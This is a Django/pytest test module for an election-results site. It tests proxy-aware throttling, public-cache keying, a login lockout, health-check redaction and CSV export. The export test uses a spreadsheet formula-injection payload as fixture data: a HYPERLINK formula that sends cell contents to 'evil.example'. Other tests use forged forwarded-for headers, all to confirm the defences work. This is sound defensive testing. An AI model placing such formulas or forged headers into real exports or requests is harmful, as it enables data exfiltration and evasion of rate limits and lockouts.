"""Clients and proxies: who the client is behind the proxy, throttles on every public door, a
public cache that keys only on what changes the answer and hands out no one's cookie, a lockout
that no outsider can turn against the CEC, a health check that names no server, and exports
that a spreadsheet cannot run."""

import csv
import io
import ipaddress
import itertools
import re

import pytest
from axes.models import AccessAttempt
from django.contrib.sessions.models import Session
from django.core.cache import cache
from django.db import OperationalError
from django.middleware.csrf import _unmask_cipher_token
from django.test import Client, TestCase
from django.urls import reverse
from rest_framework.throttling import AnonRateThrottle

from config import api, health
from elections.services.aggregation import contest_aggregate
from elections.services.publication import protocols_publish
from stations.importing import COLUMNS
from stations.models import Station
from tests.clients import api_for, client_for, current_code
from tests.elections.conftest import Night
from tests.factories import StationFactory
from transparency.services import log_bring_up_to_date

pytestmark = pytest.mark.django_db

PROXY = "10.0.0.2"  # the TLS proxy in front of the site, as REMOTE_ADDR shows it
_addresses = itertools.count(1)


@pytest.fixture
def address() -> str:
    """A client address no other test has used, so that no earlier test's allowance counts."""
    return str(ipaddress.ip_address("198.18.0.0") + next(_addresses))


@pytest.fixture
def rate(monkeypatch):
    """Two requests a minute for anonymous clients, in the API and in the pages."""
    monkeypatch.setattr(AnonRateThrottle, "THROTTLE_RATES", {"anon": "2/min", "pages": "2/min"})


@pytest.fixture
def behind_proxy(settings):
    settings.TRUSTED_PROXIES = 1


@pytest.fixture
def night(db, django_user_model) -> Night:
    return Night(django_user_model)


@pytest.fixture
def published(night):
    night.accept(night.station)
    with TestCase.captureOnCommitCallbacks(execute=True):
        protocols_publish()
        contest_aggregate(contest_id=night.contest.pk)
    return night


def public_entries() -> int:
    """How many answers the public cache holds (local memory, or Redis in make test-services)."""
    if hasattr(cache, "_cache") and isinstance(cache._cache, dict):
        return sum(":public:" in key for key in cache._cache)
    client = cache._cache.get_client(None)
    return sum(1 for _ in client.scan_iter(match=cache.make_key("public:*")))


def throttle_history(scope: str, ident: str) -> list:
    return cache.get(f"throttle_{scope}_{ident}") or []


# --- The client's address -------------------------------------------------------------------


def test_a_new_forwarded_for_header_buys_no_new_allowance(rate, behind_proxy, address):
    reader = Client(REMOTE_ADDR=PROXY)
    # The proxy appends the address it was reached from; the client writes what stands before.
    answers = [
        reader.get("/api/v1/regions/", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}, {address}")
        for n in range(3)
    ]

    assert [answer.status_code for answer in answers] == [200, 200, 429]
    assert len(throttle_history("anon", address)) == 2  # counted against the real client
    assert not any(throttle_history("anon", f"203.0.113.{n}") for n in range(3))
    assert not throttle_history("anon", PROXY)


def test_without_a_trusted_proxy_a_forwarded_for_header_is_ignored(rate, address):
    reader = Client(REMOTE_ADDR=address)
    answers = [
        reader.get("/api/v1/regions/", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code
        for n in range(3)
    ]

    assert answers == [200, 200, 429]
    assert len(throttle_history("anon", address)) == 2


def test_a_client_on_ipv6_gets_no_new_allowance_from_each_address_of_its_network(rate):
    answers = [
        Client(REMOTE_ADDR=f"2001:db8:77:1::{n:x}").get("/api/v1/regions/").status_code
        for n in range(1, 4)
    ]

    assert answers == [200, 200, 429]
    assert len(throttle_history("anon", "2001:db8:77:1::/64")) == 2


# --- Every public endpoint throttled --------------------------------------------------------


def test_every_public_api_endpoint_is_throttled(rate, published):
    public, refused = [], []
    for prefix, _viewset, basename in api.router.registry:
        # Each its own client: a new allowance per endpoint, to show that each one counts.
        reader = Client(REMOTE_ADDR=str(ipaddress.ip_address("198.18.0.0") + next(_addresses)))
        url = reverse(f"{basename}-list")
        if reader.get(url).status_code != 200:
            continue  # staff and observers only: refused (401) before any work is done
        public.append(prefix)
        # Another representation: a cached answer would not count, a new one does.
        reader.get(url, {"format": "api"})
        refused.append(reader.get(url, {"format": "json", "page": "1"}).status_code)

    assert public == [
        "regions", "stations", "contests", "results", "station-results", "chain", "complaints",
        "discrepancies", "parallel-counts",
    ]  # fmt: skip
    assert refused == [429] * len(public)


def test_every_transparency_log_endpoint_is_public_and_throttled(rate, published):
    """/api/v1/log/ is routed beside the router: its own list of doors."""
    log_bring_up_to_date()
    doors = [
        "/api/v1/log/key", "/api/v1/log/checkpoint", "/api/v1/log/checkpoints.json",
        "/api/v1/log/checkpoints/1", "/api/v1/log/records/0", "/api/v1/log/records.jsonl",
        "/api/v1/log/proof/inclusion/0/1", "/api/v1/log/proof/consistency/1/1",
        "/api/v1/log/stations/KAR-101",
    ]  # fmt: skip
    answers = []
    for url in doors:
        reader = Client(REMOTE_ADDR=str(ipaddress.ip_address("198.18.0.0") + next(_addresses)))
        answers.append([reader.get(url).status_code for _ in range(3)])
    # The cosignatures' door counts too: the third post from one client is refused unread.
    poster = Client(REMOTE_ADDR=str(ipaddress.ip_address("198.18.0.0") + next(_addresses)))
    url = "/api/v1/log/checkpoints/1/cosignatures"
    posted = [poster.post(url, "x", content_type="text/plain").status_code for _ in range(3)]

    assert answers == [[200, 200, 429]] * len(doors)
    assert posted == [400, 400, 429]


@pytest.mark.parametrize("url", ["/api/v1/", "/api/schema/", "/api/docs/"])
def test_the_api_root_schema_and_docs_are_throttled(rate, address, url):
    reader = Client(REMOTE_ADDR=address)

    answers = [reader.get(url).status_code for _ in range(3)]

    assert answers == [200, 200, 429]


def test_the_public_pages_are_throttled_for_anonymous_readers(rate, published, address):
    reader = Client(REMOTE_ADDR=address)
    pages = ["/", f"/stations/{published.station.pk}/", "/turnout/"]

    answers = [reader.get(page) for page in pages]

    assert [answer.status_code for answer in answers] == [200, 200, 429]
    assert int(answers[2]["Retry-After"]) > 0
    assert len(throttle_history("pages", address)) == 2
    assert reader.get("/health/").status_code == 200  # the load balancer is never refused


def test_signed_in_staff_are_not_counted_against_the_anonymous_allowance(rate, night, address):
    staff = client_for(night.cec)
    staff.defaults["REMOTE_ADDR"] = address

    answers = [staff.get("/turnout/").status_code for _ in range(3)]

    assert answers == [200, 200, 200]
    assert not throttle_history("pages", address)


# --- The public cache -----------------------------------------------------------------------

URL = "/api/v1/results/?level=nation"


def test_a_cache_busting_query_parameter_is_answered_from_the_same_entry(
    published, django_assert_num_queries
):
    first = Client().get(URL)
    entries = public_entries()

    with django_assert_num_queries(0):  # from the cache: nothing is built
        busted = [Client().get(f"{URL}&cb={n}&_={n}") for n in range(5)]

    assert {answer["ETag"] for answer in busted} == {first["ETag"]}
    assert all(answer.content == first.content for answer in busted)
    assert public_entries() == entries
    assert b"cb=" not in first.content


def test_a_cache_busting_query_on_a_page_is_answered_from_the_same_entry(published):
    first = Client().get("/results/night/")
    entries = public_entries()

    busted = Client().get("/results/night/?cb=1")

    assert busted.status_code == 200 and busted["ETag"] == first["ETag"]
    assert public_entries() == entries


def test_a_parameter_the_view_reads_still_changes_the_answer(published):
    nation = Client().get(URL)
    regions = Client().get("/api/v1/results/?level=region&cb=7")

    assert regions["ETag"] != nation["ETag"]
    assert {row["level"] for row in regions.json()["results"]} == {"region"}
    assert "cb=7" not in regions.content.decode()


@pytest.mark.parametrize(
    "accept",
    ["*/*", "application/json; indent=40", "application/json, x/made-up-1", "x/y;q=0.1, */*"],
)
def test_an_odd_accept_header_is_answered_from_the_json_entry(published, accept):
    first = Client().get(URL, HTTP_ACCEPT="application/json")
    entries = public_entries()

    odd = Client().get(URL, HTTP_ACCEPT=accept)

    assert odd.status_code == 200 and odd["ETag"] == first["ETag"]
    assert odd.content == first.content
    assert public_entries() == entries


def test_an_accept_header_asking_for_an_indent_first_builds_the_plain_answer(published):
    # The first reader builds the entry everyone is handed: their Accept parameters must not
    # shape it (an indent of 8 tripled the bytes every later reader was sent).
    odd = Client().get(URL, HTTP_ACCEPT="application/json; indent=8")

    plain = Client().get(URL, HTTP_ACCEPT="application/json")

    assert odd.status_code == plain.status_code == 200
    assert b"\n" not in plain.content
    assert odd.content == plain.content


def test_an_accept_header_no_renderer_serves_makes_no_entry(published):
    entries = public_entries()

    refused = Client().get(URL, HTTP_ACCEPT="x/made-up")

    assert refused.status_code == 406
    assert public_entries() == entries


def test_a_made_up_session_cookie_does_not_bypass_the_cache(published):
    first = Client().get(URL)
    entries, sessions = public_entries(), Session.objects.count()
    reader = Client()
    reader.cookies["sessionid"] = "made-up-session-key-0123456789"

    answer = reader.get(URL)

    assert answer["ETag"] == first["ETag"]  # from the cache, not a live render
    assert public_entries() == entries and Session.objects.count() == sessions
    assert "sessionid" not in answer.cookies


@pytest.mark.parametrize("authorization", ["Token made-up", "Basic bWFkZTp1cA==", "Bearer x"])
def test_a_made_up_authorization_header_does_not_bypass_the_cache(published, authorization):
    first = Client().get(URL)
    entries = public_entries()

    answer = Client().get(URL, HTTP_AUTHORIZATION=authorization)

    assert answer.status_code == 200 and answer["ETag"] == first["ETag"]
    assert public_entries() == entries


def test_signed_in_staff_still_see_the_live_api(published):
    entries = public_entries()

    by_token = api_for(published.cec).get(URL)

    assert by_token.status_code == 200 and "ETag" not in by_token
    assert public_entries() == entries


def test_a_cached_answer_hands_no_reader_a_csrf_cookie_or_anothers_token(published):
    secret = "S" * 32  # the first reader's own CSRF secret, from an earlier page
    first_reader = Client()
    first_reader.cookies["csrftoken"] = secret

    first = first_reader.get(URL, HTTP_ACCEPT="text/html")  # the browsable page uses the token
    second = Client().get(URL, HTTP_ACCEPT="text/html")

    assert first.status_code == second.status_code == 200
    assert second["ETag"] == first["ETag"]  # one cached answer for both readers
    assert "csrftoken" not in first.cookies and "csrftoken" not in second.cookies
    [token] = re.findall(r'"csrfToken": "([^"]+)"', second.content.decode())
    assert _unmask_cipher_token(token) != secret  # the first reader's secret is not shared


def test_the_sign_in_page_still_gets_its_own_csrf_token():
    reader = Client(enforce_csrf_checks=True)
    page = reader.get("/observe/login/")
    token = page.context["csrf_token"]

    signed = reader.post(
        "/observe/login/", {"username": "x", "password": "y", "csrfmiddlewaretoken": str(token)}
    )

    assert "csrftoken" in page.cookies
    assert signed.status_code == 200  # the form again with its error, not a CSRF 403


# --- The login lockout ----------------------------------------------------------------------


def sign_in(user, password, forwarded_for, client=None):
    client = client or Client(REMOTE_ADDR=PROXY)
    data = {"username": user.username, "password": password, "otp_token": current_code(user)}
    return client.post("/admin/login/", data, HTTP_X_FORWARDED_FOR=forwarded_for)


def test_an_outsider_behind_the_proxy_cannot_lock_the_cec_out(behind_proxy, night):
    night.cec.set_password("the-right-password-1")
    night.cec.save()
    outsider = "198.51.100.66"

    wrong = [sign_in(night.cec, "guess", outsider).status_code for _ in range(5)]
    locked = sign_in(night.cec, "the-right-password-1", outsider)
    cec = sign_in(night.cec, "the-right-password-1", "192.0.2.10")

    assert wrong[-1] == 429 and locked.status_code == 429
    assert cec.status_code == 302  # the CEC, from its own address through the same proxy
    attempts = AccessAttempt.objects.filter(username=night.cec.username)
    # Five wrong passwords and the refused right one, all against the outsider's address.
    assert list(attempts.values_list("ip_address", "failures_since_start")) == [(outsider, 6)]


def test_a_forged_forwarded_for_header_does_not_dodge_the_lockout(behind_proxy, night):
    night.cec.set_password("the-right-password-1")
    night.cec.save()
    outsider = "198.51.100.67"

    answers = [
        sign_in(night.cec, "guess", f"192.0.2.{n}, {outsider}").status_code for n in range(6)
    ]
    locked = sign_in(night.cec, "the-right-password-1", f"192.0.2.99, {outsider}")

    assert answers[-1] == 429 and locked.status_code == 429
    assert not AccessAttempt.objects.filter(ip_address__startswith="192.0.2.").exists()


def test_a_login_is_never_locked_out_from_the_cecs_own_network(behind_proxy, night, settings):
    settings.LOCKOUT_EXEMPT_NETWORKS = [ipaddress.ip_network("10.20.0.0/16")]
    night.cec.set_password("the-right-password-1")
    night.cec.save()

    outside = [sign_in(night.cec, "guess", "198.51.100.68").status_code for _ in range(6)]
    inside = [sign_in(night.cec, "guess", "10.20.1.5").status_code for _ in range(6)]
    office = sign_in(night.cec, "the-right-password-1", "10.20.1.5")

    assert outside[-1] == 429 and 429 not in inside
    assert office.status_code == 302
    assert sign_in(night.cec, "the-right-password-1", "198.51.100.68").status_code == 429
    assert not AccessAttempt.objects.filter(ip_address="10.20.1.5").exists()


# --- The health check -----------------------------------------------------------------------


def test_the_health_check_names_no_server_to_anonymous_callers(monkeypatch, caplog):
    def database_down():
        raise OperationalError(
            'connection to server at "10.9.8.7", port 5432 failed: '
            'password authentication failed for user "saylau"'
        )

    monkeypatch.setitem(health.CHECKS, "database", database_down)

    response = Client().get("/health/")

    assert response.status_code == 503
    assert response.json()["database"] == "unavailable"
    assert "10.9.8.7" not in response.content.decode()
    assert "saylau" not in response.content.decode()
    assert "10.9.8.7" in caplog.text  # for operators, in the log


# --- Spreadsheet export ---------------------------------------------------------------------


def test_a_station_whose_text_is_a_formula_is_exported_as_text(staff_client):
    formulas = {
        "name": '+HYPERLINK("http://evil.example/?"&A1,"School")',
        "address": "@SUM(A1:A9)",
        "chair_name": "==1+1",
        "secretary_name": "-2+3",
    }
    StationFactory(number=77, longitude=-51.5, **formulas)

    response = staff_client.post(
        reverse("admin:stations_station_export"),
        {"format": "0", "resource": "0", **{f"stationresource_{c}": "on" for c in COLUMNS}},
    )

    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert {field: row[field] for field in formulas} == {
        field: "'" + value for field, value in formulas.items()
    }
    assert row["longitude"] == "-51.50000"  # a number stays a number
    station = Station.objects.get(number=77)
    assert station.name == formulas["name"]  # what is stored is what was typed
